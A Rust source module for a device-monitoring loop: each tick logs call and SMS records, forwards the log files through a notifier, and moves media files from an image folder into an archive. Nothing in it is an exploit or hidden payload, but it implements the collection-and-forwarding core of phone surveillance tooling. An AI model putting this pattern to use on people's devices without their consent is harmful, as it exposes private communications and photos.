//! The monitor loop: `Idle -> Running -> Stopped`.
//!
//! Each tick checks the stop signal, emits the call and SMS records, scans
//! the media directory and archives what it found, then sleeps. Nothing that
//! fails inside a tick ends the loop; only the stop marker or the
//! cancellation token does.

use std::{
    fs, io,
    path::{Path, PathBuf},
    sync::Arc,
    time::Duration,
};

use chrono::Local;
use tokio::time::sleep;
use tokio_util::sync::CancellationToken;

use crate::{
    config::Config,
    events::{is_media_file, tick_timestamp, EventRecord, EventSource},
    file_logger::{ensure_dir, write_log},
    logging::MonitorLog,
    notifier::Notifier,
    stop_signal::StopSignal,
    Error, Result,
};

pub const MSG_STARTED: &str = "Device monitoring started.";
pub const MSG_STOP_RECEIVED: &str = "Stop signal received. Shutting down monitoring.";
pub const MSG_STOPPED: &str = "Device monitoring has been stopped.";
pub const MSG_STOP_ISSUED: &str = "Stop signal issued. Monitoring will halt shortly.";

#[derive(Clone, Debug)]
pub struct MonitorSettings {
    pub image_dir: PathBuf,
    pub archive_dir: PathBuf,
    pub log_dir: PathBuf,
    pub tick_interval: Duration,
}

impl From<&Config> for MonitorSettings {
    fn from(cfg: &Config) -> Self {
        Self {
            image_dir: cfg.image_dir.clone(),
            archive_dir: cfg.archive_dir.clone(),
            log_dir: cfg.log_dir.clone(),
            tick_interval: cfg.tick_interval,
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum MonitorState {
    Idle,
    Running,
    Stopped,
}

/// What a single tick did.
#[derive(Clone, Debug, Default)]
pub struct TickReport {
    pub logs_written: Vec<PathBuf>,
    pub files_sent: usize,
    pub archived: Vec<PathBuf>,
    pub media_dir_missing: bool,
}

pub struct Monitor {
    settings: MonitorSettings,
    notifier: Arc<Notifier>,
    stop: Arc<StopSignal>,
    source: Box<dyn EventSource>,
    log: Arc<dyn MonitorLog>,
    state: MonitorState,
}

impl Monitor {
    /// Build an idle monitor, creating the log and archive folders if needed.
    pub fn new(
        settings: MonitorSettings,
        notifier: Arc<Notifier>,
        stop: Arc<StopSignal>,
        source: Box<dyn EventSource>,
        log: Arc<dyn MonitorLog>,
    ) -> Result<Self> {
        if ensure_dir(&settings.log_dir)? {
            log.info(&format!("Created log folder: {}", settings.log_dir.display()));
        }
        if ensure_dir(&settings.archive_dir)? {
            log.info(&format!(
                "Created archive folder: {}",
                settings.archive_dir.display()
            ));
        }

        Ok(Self {
            settings,
            notifier,
            stop,
            source,
            log,
            state: MonitorState::Idle,
        })
    }

    pub fn state(&self) -> MonitorState {
        self.state
    }

    /// Run until the stop marker is seen or `cancel` fires.
    ///
    /// Returns the number of completed ticks. A monitor runs once; starting a
    /// stopped monitor is an error.
    pub async fn run(&mut self, cancel: CancellationToken) -> Result<u64> {
        if self.state != MonitorState::Idle {
            return Err(Error::State(format!(
                "monitor cannot start from {:?}",
                self.state
            )));
        }

        self.state = MonitorState::Running;
        self.notifier.send_message(MSG_STARTED).await;

        let mut ticks = 0u64;
        loop {
            if self.stop_requested(&cancel) {
                self.notifier.send_message(MSG_STOP_RECEIVED).await;
                self.log.info("Stop signal detected. Exiting monitoring loop.");
                break;
            }

            let timestamp = tick_timestamp(Local::now());
            self.tick(&timestamp).await;
            ticks += 1;

            tokio::select! {
                _ = cancel.cancelled() => {}
                _ = sleep(self.settings.tick_interval) => {}
            }
        }

        self.state = MonitorState::Stopped;
        self.notifier.send_message(MSG_STOPPED).await;
        Ok(ticks)
    }

    // The marker is consumed even when the token already fired.
    fn stop_requested(&self, cancel: &CancellationToken) -> bool {
        let marker = self.stop.check_and_consume();
        marker || cancel.is_cancelled()
    }

    /// One pass over call, SMS and media events stamped with `timestamp`.
    pub async fn tick(&self, timestamp: &str) -> TickReport {
        let mut report = TickReport::default();

        for record in self.source.collect(timestamp) {
            self.emit(&record, &mut report).await;
        }
        self.scan_media(timestamp, &mut report).await;

        report
    }

    async fn emit(&self, record: &EventRecord, report: &mut TickReport) {
        let path = self.settings.log_dir.join(record.log_file_name());
        if let Err(e) = write_log(&path, &record.render()) {
            self.log.error(&format!("Error writing {} log: {e}", record.kind()));
            return;
        }
        self.log.info(&format!("Logged data to {}", path.display()));
        report.logs_written.push(path.clone());

        if self.notifier.send_file(&path).await {
            report.files_sent += 1;
        }
    }

    async fn scan_media(&self, timestamp: &str, report: &mut TickReport) {
        let dir = &self.settings.image_dir;
        if !dir.exists() {
            self.log
                .warn(&format!("Image directory not found: {}", dir.display()));
            report.media_dir_missing = true;
            return;
        }

        let entries = match fs::read_dir(dir) {
            Ok(rd) => rd,
            Err(e) => {
                self.log.error(&format!(
                    "Failed to read image directory {}: {e}",
                    dir.display()
                ));
                return;
            }
        };

        let mut media: Vec<PathBuf> = entries
            .flatten()
            .map(|ent| ent.path())
            .filter(|p| p.is_file() && is_media_file(p))
            .collect();
        media.sort();

        for path in media {
            let Some(file_name) = path.file_name().map(|n| n.to_os_string()) else {
                continue;
            };
            let display_name = file_name.to_string_lossy().to_string();

            let record = EventRecord::media(&display_name, timestamp);
            self.emit(&record, report).await;

            let dest = self.settings.archive_dir.join(&file_name);
            match archive_file(&path, &dest) {
                Ok(()) => {
                    self.log.info(&format!("Archived media file: {display_name}"));
                    report.archived.push(dest);
                }
                Err(e) => self
                    .log
                    .error(&format!("Failed to archive {display_name}: {e}")),
            }
        }
    }
}

/// Move `src` to `dest`, falling back to copy + remove across filesystems.
fn archive_file(src: &Path, dest: &Path) -> io::Result<()> {
    let Err(rename_err) = fs::rename(src, dest) else {
        return Ok(());
    };
    match fs::copy(src, dest) {
        Ok(_) => fs::remove_file(src),
        Err(_) => Err(rename_err),
    }
}
